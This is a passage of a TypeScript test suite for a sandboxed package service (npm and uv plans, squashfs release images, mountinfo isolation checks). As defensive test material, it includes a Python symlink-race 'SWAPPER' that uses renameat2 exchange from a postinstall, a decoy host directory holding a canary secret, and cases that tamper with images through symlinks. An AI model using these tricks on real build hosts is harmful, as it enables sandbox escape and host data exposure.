    expect([refusedPlan.code, refusedPlan.details.rule]).toEqual(['FAILED_PRECONDITION', 'allowToolkitWorkspaceChanges']);
    const open = (await ok('workspace_open', { repositoryUrl: repoUrl, idempotencyKey: 'tk-open-01', toolkits: ['left-helper'], allowToolkitWorkspaceChanges: true })).workspaceId;
    const plan = await ok('packages_plan', { ecosystem: 'npm', name: 'cli-demo', version: '1.1.0', scope: 'workspace', workspaceId: open });
    expect(plan.scope).toBe('workspace');
    expect(plan.affectedWorkspaces).toEqual([open]);
  });
});

describe('uv plans (Python wheels)', () => {
  it('resolve wheels only, build with hashes, and put the console script on PATH of a new workspace', async () => {
    const { plan, apply } = await install({ ecosystem: 'uv', name: 'hello-tool' });
    expect(plan.version).toBe('1.0');
    expect(plan.python).toMatch(/^3\.\d+$/);
    expect(plan.packages.map((p: R) => `${p.name}==${p.version}`).sort()).toEqual(['hello-tool==1.0', 'tiny-dep==0.1']);
    for (const p of plan.packages) expect(p.sha256).toMatch(/^[0-9a-f]{64}$/);
    expect(plan.dependencyCount).toBe(1);
    expect(apply.state, JSON.stringify(apply)).toBe('SUCCEEDED');
    const b = (await ok('packages_list', { scope: 'owner' })).bindings.find((x: R) => x.name === 'hello-tool');
    expect(b.release.binaries).toEqual(['hello-tool']);
    const ws = await openWs();
    const r = await sh(ws, 'hello-tool; python3 -c "import hello_tool, tiny_dep; print(tiny_dep.VALUE)"');
    expect(r.stdout).toBe('hello-tool 1.0 tiny\ntiny\n');
  });

  it('an sdist-only package is refused: wheels only; another python than the workspaces have is refused', async () => {
    const sd = await refused('packages_plan', { ecosystem: 'uv', name: 'only-sdist' });
    expect(sd.code).toBe('FAILED_PRECONDITION');
    expect(sd.message).toMatch(/only source distributions.*wheels only/);
    const wrong = await refused('packages_plan', { ecosystem: 'uv', name: 'hello-tool', python: '3.2' });
    expect([wrong.code, wrong.details.field]).toEqual(['FAILED_PRECONDITION', 'python']);
  });
});

describe('when resolution is slow, and when packages are off', () => {
  it('a plan goes through RESOLVING to READY; every tool is refused while PACKAGES_ENABLED is off', async () => {
    const slow = await startService({ args: ['--packages-enabled', '--packages-resolve-wait-ms', '0', '--packages-npm-registry', reg.url, '--packages-ca-file', reg.caCertPath] });
    const off = await startService();
    try {
      const cs = await connectV2(slow);
      const r = (await call(cs, 'packages_plan', { ecosystem: 'npm', name: 'left-helper' })) as { ok: true; result: R };
      expect(r.result.state).toBe('RESOLVING');
      expect(r.result.resolutionId).toMatch(/^pkq_/);
      let s: R = {};
      for (let i = 0; i < 20 && s.state !== 'READY'; i++) s = ((await call(cs, 'packages_status', { resolutionId: r.result.resolutionId, waitMs: 5000 })) as { result: R }).result;
      expect(s.state).toBe('READY');
      expect(s.plan.name).toBe('left-helper');
      expect(s.plan.planDigest).toMatch(/^[0-9a-f]{64}$/);
      await cs.close();

      const co = await connectV2(off);
      for (const [name, args] of [
        ['packages_plan', { ecosystem: 'npm', name: 'left-helper' }],
        ['packages_apply', { planId: 'pkp_' + 'q'.repeat(24), planDigest: 'a'.repeat(64) }],
        ['packages_list', {}],
        ['packages_status', {}],
        ['packages_rollback', { bindingId: 'pkb_' + 'q'.repeat(24), releaseId: 'pkr_' + 'q'.repeat(24), expectedGeneration: 1 }],
        ['packages_remove', { bindingId: 'pkb_' + 'q'.repeat(24), expectedGeneration: 1 }],
      ] as const) {
        const x = await call(co, name, args);
        expect(x.ok, name).toBe(false);
        if (!x.ok) {
          expect(x.error.code, name).toBe('FAILED_PRECONDITION');
          expect(x.error.message, name).toContain('--packages-enabled');
        }
      }
      const tb = await call(co, 'bash', { target: 'toolbox', command: 'true' });
      expect(!tb.ok && tb.error.details.field).toBe('target');
      await co.close();
    } finally {
      await slow.dispose();
      await off.dispose();
    }
  });
});

describe('releases are filesystems of their own (issue #31 item 7)', () => {
  /** Host directories no mountinfo line of a sandbox may name. */
  const hostDirs = () => [svc.dataDir, process.env.ATELIER_TEST_RUN_DIR].filter((d): d is string => !!d);
  /** The lines of a mountinfo that name a host directory of this run, and [root, mount point, type] of each release mount. */
  function releaseMounts(mountinfo: string): { naming: string[]; releases: string[][] } {
    expect(mountinfo).toContain(' /proc '); // it is a mountinfo
    const lines = mountinfo.split('\n').filter(Boolean);
    return {
      naming: lines.filter((l) => hostDirs().some((d) => l.includes(d))),
      releases: lines.filter((l) => l.split(' ')[4]!.startsWith('/opt/packages/')).map((l) => [l.split(' ')[3]!, l.split(' ')[4]!, l.split(' - ')[1]!.split(' ')[0]!]),
    };
  }
  const targetOf = (b: R) => (b.ecosystem === 'npm' ? `/opt/packages/npm/${b.name}/node_modules` : `/opt/packages/uv/${b.name}`);

  it('a workspace with bindings, one opened with a toolkit, and the bash toolbox: no mountinfo line names the data directory; each release is the root of a squashfs of its own', async () => {
    const owner = (await ok('packages_list', { scope: 'owner' })).bindings as R[];
    expect(owner.length).toBeGreaterThan(2);
    const targets = owner.map(targetOf).sort();
    const ws = await openWs();
    const inWs = releaseMounts((await sh(ws, 'cat /proc/self/mountinfo')).stdout);
    expect(inWs.naming).toEqual([]);
    expect(inWs.releases.map((r) => r[1]).sort()).toEqual(targets);
    for (const r of inWs.releases) expect(r).toEqual(['/', r[1], 'squashfs']);
    const tk = (await ok('workspace_open', { repositoryUrl: repoUrl, idempotencyKey: 'mi-toolkit-01', toolkits: ['npm:left-helper'] })).workspaceId as string;
    const inTk = releaseMounts((await sh(tk, 'cat /proc/self/mountinfo')).stdout);
    expect(inTk).toEqual({ naming: [], releases: [['/', '/opt/packages/npm/left-helper/node_modules', 'squashfs']] });
    const inToolbox = releaseMounts((await ok('bash', { target: 'toolbox', command: 'cat /proc/self/mountinfo' })).stdout);
    expect(inToolbox.naming).toEqual([]);
    expect(inToolbox.releases.map((r) => r[1]).sort()).toEqual(targets);
    for (const r of inToolbox.releases) expect(r).toEqual(['/', r[1], 'squashfs']);
    for (const id of [ws, tk]) await ok('workspace_close', { workspaceId: id });
  });

  it('a launch check runs the release image: its mountinfo names no host directory', async () => {
    // The binary prints what it sees and exits 126, so the failed apply's output tail shows it.
    const probe = [
      '#!/usr/bin/env node',
      `const dirs = ${JSON.stringify(hostDirs())};`,
      "const lines = require('fs').readFileSync('/proc/self/mountinfo', 'utf8').split('\\n');",
      "for (const l of lines) if (dirs.some((d) => l.includes(d))) console.error('NAMING ' + l);",
      "for (const l of lines) if ((l.split(' ')[4] || '').startsWith('/opt/packages/')) console.error('RELEASE ' + [l.split(' ')[3], l.split(' ')[4], l.split(' - ')[1].split(' ')[0]].join(' '));",
      'process.exit(126);',
      '',
    ].join('\n');
    await reg.publish({ name: 'launch-mountinfo', version: '1.0.0', bin: { 'launch-mountinfo': 'bin/probe.js' }, files: { 'bin/probe.js': probe } });
    const launched = await install({ ecosystem: 'npm', name: 'launch-mountinfo' });
    expect([launched.apply.state, launched.apply.errorCode], JSON.stringify(launched.apply)).toEqual(['FAILED', 'LAUNCH_CHECK_FAILED']);
    expect(launched.apply.outputTail).toContain('RELEASE / /opt/packages/npm/launch-mountinfo/node_modules squashfs');
    expect(launched.apply.outputTail).not.toContain('NAMING');
  });

  it('a release image replaced by a link, changed or missing is never followed nor mounted and is reported naming the package; planning it again stores it again', async () => {
    await reg.publish({ name: 'img-victim', version: '1.0.0', bin: { 'img-victim': 'bin/cli.js' }, files: { 'bin/cli.js': "#!/usr/bin/env node\nconsole.log('img-victim 1.0.0');\n" } });
    const first = await install({ ecosystem: 'npm', name: 'img-victim' });
    expect(first.apply.state, JSON.stringify(first.apply)).toBe('SUCCEEDED');
    expectReleasesAreImages();
    const release = await boundRelease('img-victim');
    const img = imageOf(release);
    const good = readFileSync(img);
    const copy = join(mkdtempSync(join(tmpdir(), 'atelier-pk-img-')), 'good.sqfs');
    writeFileSync(copy, good, { mode: 0o400 });
    const changed = Buffer.from(good);
    changed[changed.length >> 1] = changed[changed.length >> 1]! ^ 0x01;
    const damages: Array<[string, () => void, RegExp]> = [
      ['a symbolic link to a good copy', () => (rmSync(img), symlinkSync(copy, img)), /^its image was replaced by a symbolic link \(never followed\)$/],
      ['one byte changed', () => (rmSync(img), writeFileSync(img, changed, { mode: 0o400 })), /^its image does not match the SHA-256 recorded when the release was made/],
      ['missing', () => rmSync(img), /^its image is missing on disk$/],
    ];
    for (const [what, damage, why] of damages) {
      damage();
      expect(await toolboxRun('img-victim'), what).toBe('rc=127 mounted=0');
      expect(await reported(release.releaseId), what).toEqual({ present: false, listed: expect.stringMatching(why), status: expect.stringMatching(why), name: 'img-victim' });
    }
    // The owner plans it again: a new plan, approved; its build stores the same release again.
    const again = await install({ ecosystem: 'npm', name: 'img-victim' });
    expect(again.plan.planId).not.toBe(first.plan.planId);
    expect([again.apply.state, again.apply.releaseId], JSON.stringify(again.apply)).toEqual(['SUCCEEDED', release.releaseId]);
    expect(await toolboxRun('img-victim')).toBe('img-victim 1.0.0 rc=0 mounted=1');
    expect(await reported(release.releaseId)).toEqual({ present: true, listed: undefined, status: undefined, name: undefined });
    expectReleasesAreImages();
  });

  it('a release directory from before images is converted to its image when first needed; one replaced by a link to a host directory is never followed nor converted', async () => {
    await reg.publish({ name: 'legacy-victim', version: '1.0.0', bin: { 'legacy-victim': 'bin/cli.js' }, files: { 'bin/cli.js': "#!/usr/bin/env node\nconsole.log('legacy-victim 1.0.0');\n" } });
    const { apply } = await install({ ecosystem: 'npm', name: 'legacy-victim' });
    expect(apply.state, JSON.stringify(apply)).toBe('SUCCEEDED');
    const release = await boundRelease('legacy-victim');
    const img = imageOf(release);
    const legacy = join(svc.dataDir, 'packages', 'releases', release.digest);
    const copy = join(mkdtempSync(join(tmpdir(), 'atelier-pk-img-')), 'good.sqfs');
    copyFileSync(img, copy);
    rmSync(img);
    const dir = decoy('legacy-victim');
    try {
      symlinkSync(dir, legacy);
      expect(await toolboxRun('legacy-victim')).toBe('rc=127 mounted=0');
      expect((await reported(release.releaseId)).listed).toMatch(/^its directory \(from before release images\) was replaced by a symbolic link \(never followed\)/);
      expectUntouched(dir, 'legacy-victim');
      expect(lstatSync(legacy).isSymbolicLink()).toBe(true);
      expect(existsSync(img)).toBe(false);
    } finally {
      rmSync(legacy, { force: true });
      rmSync(dir, { recursive: true, force: true });
    }
    // The directory as a runner before release images kept it: root's, read-only.
    execFileSync('unsquashfs', ['-no-progress', '-d', legacy, copy], { stdio: 'ignore' });
    expect(lstatSync(legacy).isDirectory()).toBe(true);
    expect(await toolboxRun('legacy-victim')).toBe('legacy-victim 1.0.0 rc=0 mounted=1');
    expect(existsSync(legacy)).toBe(false);
    expectReleasesAreImages();
    expect(await reported(release.releaseId)).toEqual({ present: true, listed: undefined, status: undefined, name: undefined });
  });

  it('release mounts: a runner killed -9 leaves them and the next start removes them (a release directory from before images is converted at start); a clean stop leaves none', async () => {
    const pk = join(svc.dataDir, 'packages');
    const releaseMountsNow = () => mountsUnder(join(pk, 'mounts'));
    expect((await ok('bash', { target: 'toolbox', command: 'img-victim && legacy-victim' })).stdout).toBe('img-victim 1.0.0\nlegacy-victim 1.0.0\n');
    const victim = await boundRelease('img-victim');
    const converted = await boundRelease('legacy-victim');
    const victimMount = join(pk, 'mounts', victim.digest);
    expect(releaseMountsNow()).toContain(victimMount);
    expect(loopsUnder(imageOf(victim))).toHaveLength(1);
    expect(await svc.stop('SIGKILL')).toBeNull();
    expect(releaseMountsNow(), 'a runner killed -9 leaves its release mounts').toContain(victimMount);
    // While no runner runs, one release goes back to how a runner before release images kept it.
    const legacy = join(pk, 'releases', converted.digest);
    execFileSync('unsquashfs', ['-no-progress', '-d', legacy, imageOf(converted)], { stdio: 'ignore' });
    rmSync(imageOf(converted));
    await c.close();
    const token = svc.token; // a restarted service prints no new token
    svc = await startWorkspaceService(host, { dataDir: svc.dataDir, config: svcConfig });
    c = await connectV2(svc, token);
    // Started: what the killed runner left mounted is gone, with its loop device (nothing else held
    // that one); each release is mounted again, verified, when a sandbox needs it.
    expect(releaseMountsNow()).not.toContain(victimMount);
    await waitFor(() => loopsUnder(imageOf(victim)).length === 0, "the killed runner's loop device of a release image freed");
    await waitFor(() => existsSync(imageOf(converted)) && !existsSync(legacy), 'the release directory converted to its image at start');
    expect((await ok('bash', { target: 'toolbox', command: 'img-victim && legacy-victim' })).stdout).toBe('img-victim 1.0.0\nlegacy-victim 1.0.0\n');
    expect(releaseMountsNow()).toContain(victimMount);
    expect(loopsUnder(imageOf(victim))).toHaveLength(1);
    // A clean stop: nothing of the releases stays mounted, and their loop devices go with the sandboxes.
    await svc.stop();
    expect(releaseMountsNow()).toEqual([]);
    await waitFor(() => loopsUnder(pk).length === 0, 'no loop device backed by a release image after a clean stop');
  });
});

async function boundRelease(name: string): Promise<R> {
  return ((await ok('packages_list', {})).bindings as R[]).find((x) => x.name === name)!.release as R;
}
const imageOf = (release: R) => join(svc.dataDir, 'packages', 'releases', `${release.digest}.sqfs`);
/** Runs an npm release's binary in the toolbox: its output, exit code, and how many mounts of the release the toolbox has. */
async function toolboxRun(bin: string): Promise<string> {
  const r = await ok('bash', { target: 'toolbox', command: `${bin} 2>/dev/null; echo "rc=$? mounted=$(grep -c ' /opt/packages/npm/${bin}/node_modules ' /proc/self/mountinfo)"` });
  return (r.stdout as string).trim().replace(/\n/g, ' ');
}
/** What packages_list and packages_status say of a release. */
async function reported(releaseId: string): Promise<{ present: boolean; listed: string | undefined; status: string | undefined; name: string | undefined }> {
  const listed = ((await ok('packages_list', {})).bindings as R[]).map((b) => b.release as R).find((r) => r.releaseId === releaseId)!;
  const status = ((await ok('packages_status', {})).missingReleases as R[]).find((m) => m.releaseId === releaseId);
  return { present: listed.present, listed: listed.problem, status: status?.problem, name: status?.name };
}
/** Polls a condition for at most 30 s, then fails saying what it waited for. */
async function waitFor(cond: () => boolean, what: string): Promise<void> {
  for (let i = 0; i < 300; i++) {
    if (cond()) return;
    await new Promise((r) => setTimeout(r, 100));
  }
  throw new Error(`waited 30 s for: ${what}`);
}

/**
 * Runs in the builder, left behind by a postinstall: exchanges /build/node_modules with a symlink
 * to the decoy (renameat2 RENAME_EXCHANGE: the name never goes missing), mostly leaving the link in place.
 */
const SWAPPER = `
import ctypes, time
libc = ctypes.CDLL(None, use_errno=True)
AT_FDCWD, RENAME_EXCHANGE = -100, 2
while True:
    libc.renameat2(AT_FDCWD, b'/build/node_modules', AT_FDCWD, b'/build/nm-link', RENAME_EXCHANGE)
    time.sleep(0.2)
    libc.renameat2(AT_FDCWD, b'/build/node_modules', AT_FDCWD, b'/build/nm-link', RENAME_EXCHANGE)
    time.sleep(0.005)
`;

/**
 * A host directory that looks like the package's node_modules (so a runner following a link to it
 * would find the plan's package there), at a /tmp path the builder can make in its own /tmp too,
 * owned by another uid with a private file in it.
 */
function decoy(pkg: string): string {
  const dir = `/tmp/atelier-decoy-${Math.random().toString(36).slice(2, 10)}`;
  mkdirSync(join(dir, pkg), { recursive: true, mode: 0o755 });
  writeFileSync(join(dir, pkg, 'package.json'), JSON.stringify({ name: pkg, version: '1.0.0' }), { mode: 0o644 });
  writeFileSync(join(dir, '.canary'), 'host secret', { mode: 0o600 });
  for (const p of [dir, join(dir, pkg), join(dir, pkg, 'package.json'), join(dir, '.canary')]) chownSync(p, 12345, 12345);
  chmodSync(dir, 0o700);
  chmodSync(join(dir, pkg), 0o755);
  return dir;
}

function expectUntouched(dir: string, pkg: string): void {
  const want: Array<[string, number]> = [[dir, 0o700], [join(dir, pkg), 0o755], [join(dir, pkg, 'package.json'), 0o644], [join(dir, '.canary'), 0o600]];
  for (const [p, mode] of want) {
    const st = lstatSync(p);
    expect([p, st.uid, st.mode & 0o777]).toEqual([p, 12345, mode]);
  }
  expect(readFileSync(join(dir, '.canary'), 'utf8')).toBe('host secret');
}

/** Every release in the store is an image file of root's, readable by root alone (never a symlink, never the builder's tree). */
function expectReleasesAreImages(): void {
  const releases = join(svc.dataDir, 'packages', 'releases');
  for (const n of readdirSync(releases)) {
    const st = lstatSync(join(releases, n));
    expect([n, /^[0-9a-f]{64}\.sqfs$/.test(n), st.isFile(), st.uid, st.mode & 0o777]).toEqual([n, true, true, 0, 0o400]);
  }
}

/** Host processes whose command line names `text`. */
function processesNaming(text: string): string[] {
  const out: string[] = [];
  for (const p of readdirSync('/proc')) {
    if (!/^\d+$/.test(p) || Number(p) === process.pid) continue;
    try {
      const cmd = readFileSync(`/proc/${p}/cmdline`, 'utf8');
      if (cmd.includes(text)) out.push(`${p} ${cmd.split('\0').join(' ')}`);
    } catch {
      /* gone */
    }
  }
  return out;
}
